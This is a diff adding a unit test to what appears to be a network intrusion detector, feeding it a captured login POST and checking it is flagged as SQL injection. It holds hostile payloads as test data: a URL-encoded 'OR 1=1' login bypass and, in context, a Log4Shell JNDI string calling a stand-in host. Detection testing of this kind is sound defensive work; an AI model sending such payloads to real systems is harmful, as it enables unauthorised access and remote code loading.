@@ -73,6 +73,15 @@ class ContentTest(unittest.TestCase):
         self.assertIn("union%20select", sqli["keepwatch"]["net"]["evidence"])
         self.assertEqual(sqli["destination"]["domain"], "shop.example")
 
+    def test_form_body_is_read_decoded(self):
+        body = b"username=admin%27%20OR%20%271%27%3D%271&password=x"
+        p = Pcap()
+        p.session(ATTACKER, 40005, SERVER, 80, [b"POST /login.php HTTP/1.1\r\nHost: shop\r\n"
+                                                b"Content-Type: application/x-www-form-urlencoded\r\n"
+                                                b"Content-Length: %d\r\n\r\n" % len(body) + body])
+        report, _ = self.analyze(p)
+        self.assertEqual({d["rule"]["category"] for d in get(report, "web_attack")}, {"sqli"}, report)
+
     def test_log4shell_split_out_of_order(self):
         """The request arrives in three segments, the last first: reassembled before reading."""
         req = b"GET / HTTP/1.1\r\nHost: app\r\nX-Api-Version: ${jndi:ldap://198.51.100.9:1389/Exploit}\r\n\r\n"
